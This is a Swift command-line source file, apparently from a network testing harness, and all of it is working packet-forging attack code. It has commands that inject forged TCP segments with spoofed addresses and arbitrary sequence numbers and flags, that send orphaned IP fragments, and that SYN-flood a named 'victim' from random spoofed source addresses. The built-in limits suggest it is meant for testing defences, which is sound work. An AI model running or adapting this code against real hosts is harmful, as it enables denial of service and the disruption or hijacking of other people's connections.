import ArgumentParser
import Glibc

/// Whose packets are forged.
struct ForgedEnds: ParsableArguments {
    @Option(help: "Address that the packets claim to come from.")
    var source: String

    @Option(help: "Port that they claim to come from.")
    var sourcePort: UInt16 = 0

    @Option(help: "Address that they go to.")
    var destination: String

    @Option(help: "Port that they go to.")
    var destinationPort: UInt16 = 0

    func addresses() throws(EndpointError) -> (source: SocketAddress, destination: SocketAddress) {
        let ends = (
            source: try SocketAddress(source, port: sourcePort),
            destination: try SocketAddress(destination, port: destinationPort)
        )
        guard ends.source.family == ends.destination.family else {
            throw EndpointError(what: "\(source) and \(destination) are of different IP versions", number: nil)
        }
        return ends
    }
}

/// TCP segments that no end of the session has sent.
struct Inject: ParsableCommand {
    static let configuration = CommandConfiguration(abstract: "Send forged TCP segments.")

    @OptionGroup var ends: ForgedEnds

    @Option(help: "Sequence numbers, one segment for each.")
    var sequence: [UInt32] = [0]

    @Option(help: "Acknowledgment number.")
    var acknowledgment: UInt32 = 0

    @Option(help: "Flags: some of fin,syn,rst,psh,ack.")
    var flags: String

    @Option(help: "Bytes of data.")
    var data = 0

    @Option(help: "How many times all of them are sent.")
    var repeats = 1

    func run() throws {
        guard let flags = RawPacket.tcpFlags(flags) else {
            throw ValidationError("'\(flags)' are no flags: write some of fin,syn,rst,psh,ack, with commas between")
        }
        let (source, destination) = try ends.addresses()
        let sender = try RawSender(to: destination)
        for sequence in repeatElement(sequence, count: repeats).joined() {
            try sender.send(
                .tcp(
                    from: source, to: destination, sequence: sequence, acknowledgment: acknowledgment, flags: flags,
                    data: [UInt8](repeating: 0x5A, count: data)))
        }
        Report.event("injected", ["port": .number(Int(ends.destinationPort))])
    }
}

/// Fragments whose first one is never sent.
struct InjectFragments: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "inject-fragments", abstract: "Send the later fragments of datagrams, but not their first ones.")

    @OptionGroup var ends: ForgedEnds

    @Option(help: "Number of datagrams.")
    var count = 1

    @Option(help: "Protocol number.")
    var nextProtocol: UInt8 = 17

    func run() throws {
        let (source, destination) = try ends.addresses()
        let sender = try RawSender(to: destination)
        let data = [UInt8](repeating: 0x5A, count: 512)
        for number in 0..<count {
            for (offset, isLast) in [(UInt16(512), false), (1024, true)] {
                try sender.send(
                    .fragment(
                        from: source, to: destination, nextProtocol: nextProtocol,
                        identification: UInt16(truncatingIfNeeded: 4711 + number), offset: offset, isLast: isLast,
                        data: data))
            }
        }
        Report.event("injected", ["port": .number(Int(ends.destinationPort))])
    }
}

/// SYNs from ever other addresses and ports.
struct Flood: ParsableCommand {
    static let configuration = CommandConfiguration(abstract: "Send SYNs from random addresses, or from one.")

    @Argument(help: "Address of the victim.")
    var address: String

    @Argument(help: "Port of the victim.")
    var port: UInt16

    @Option(help: "Number of SYNs.")
    var count = 20_000

    @Option(help: "Seconds after which it ends, whatever is left.")
    var seconds = 20.0

    @Option(help: "First two bytes of the source addresses, or first four groups for IPv6.")
    var network = ""

    @Option(help: "The one source address of all, instead of random ones.")
    var source: String?

    func run() throws {
        let destination = try SocketAddress(address, port: port)
        let sender = try RawSender(to: destination)
        var random = SystemRandomNumberGenerator()
        let deadline = monotonicSeconds() + seconds
        var sent = 0
        while sent < count, monotonicSeconds() < deadline {
            let number = UInt32.random(in: 0...UInt32.max, using: &random)
            let host =
                destination.isIPv4
                ? "\(number & 0xFF).\(max(1, number >> 8 & 0xFF) % 255)"
                : ":\(String(number & 0xFFFF, radix: 16)):\(String(number >> 16, radix: 16))"
            let separator = destination.isIPv4 ? "." : ":"
            let end = try SocketAddress(
                source ?? network + separator + host, port: UInt16.random(in: 1024...UInt16.max, using: &random))
            try sender.send(
                .tcp(
                    from: end, to: destination, sequence: UInt32.random(in: 0...UInt32.max, using: &random),
                    acknowledgment: 0, flags: 2))
            sent += 1
            // Others want to run too.
            if sent % 200 == 0 { usleep(5_000) }
        }
        Report.event("flooded", ["sent": .number(sent)])
    }
}
